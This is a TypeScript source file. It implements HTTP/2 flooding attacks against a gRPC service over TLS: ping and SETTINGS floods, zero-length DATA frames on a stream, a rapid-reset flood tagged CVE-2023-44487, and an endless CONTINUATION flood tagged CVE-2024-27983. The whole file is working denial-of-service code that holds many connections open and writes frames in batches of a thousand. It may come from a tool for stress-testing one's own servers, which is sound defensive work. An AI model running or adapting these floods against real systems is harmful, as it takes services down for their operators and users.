import type { Attack, Counts } from './attack.js';
import { flood, keepOpen, openTls } from './connection.js';
import { callHeaders, END_HEADERS, frame, greeting, uint32 } from './frames.js';

/** Frames of one write. */
const FRAMES = 1_000;
const NO_ERROR = uint32(0);

/** Floods with frames: `begin` says what comes first on a connection, and makes more of them, `FRAMES` each time. */
function frameFlood(begin: () => { readonly first: Buffer; readonly next: () => Buffer }): Attack {
  return (target, { connections = 1 }) => {
    const counts: Counts = { connections: 0, frames: 0 };
    keepOpen(connections, (index) => {
      const socket = openTls(target.grpc, target, 'h2', index);
      socket.once('secureConnect', () => {
        counts.connections = (counts.connections ?? 0) + 1;
        const { first, next } = begin();
        socket.write(Buffer.concat([greeting(), first]));
        socket.resume();
        flood(socket, () => {
          counts.frames = (counts.frames ?? 0) + FRAMES;
          return next();
        });
      });
      return socket;
    });
    return counts;
  };
}

const repeated = (one: Buffer) => Buffer.concat(Array.from({ length: FRAMES }, () => one));
const always = (chunk: Buffer) => frameFlood(() => ({ first: Buffer.alloc(0), next: () => chunk }));

export const pingFlood = always(repeated(frame('ping', { payload: Buffer.alloc(8) })));

export const settingsFlood = always(repeated(frame('settings')));

/** Data of no length on a stream that is not there any more: they cost what they cost, and no window. */
const HEADERS = callHeaders('IsOnline');

export const emptyDataFlood = frameFlood(() => ({
  first: frame('headers', { flags: END_HEADERS, stream: 1, payload: HEADERS }),
  next: () => repeated(frame('data', { stream: 1 })),
}));

/** CVE-2023-44487: calls that are taken back as they are made, so that the limit of open ones is never reached. */
export const resetFlood = frameFlood(() => {
  let stream = 1;
  const next = () => {
    const frames: Buffer[] = [];
    for (let i = 0; i < FRAMES / 2; i++, stream += 2) {
      frames.push(frame('headers', { flags: END_HEADERS, stream, payload: HEADERS }));
      frames.push(frame('resetStream', { stream, payload: NO_ERROR }));
    }
    return Buffer.concat(frames);
  };
  return { first: Buffer.alloc(0), next };
});

/** CVE-2024-27983: headers that do not end. */
export const continuationFlood = frameFlood(() => ({
  first: frame('headers', { stream: 1, payload: HEADERS }),
  next: () => repeated(frame('continuation', { stream: 1, payload: Buffer.from([0, 1, 0x78, 1, 0x78]) })),
}));
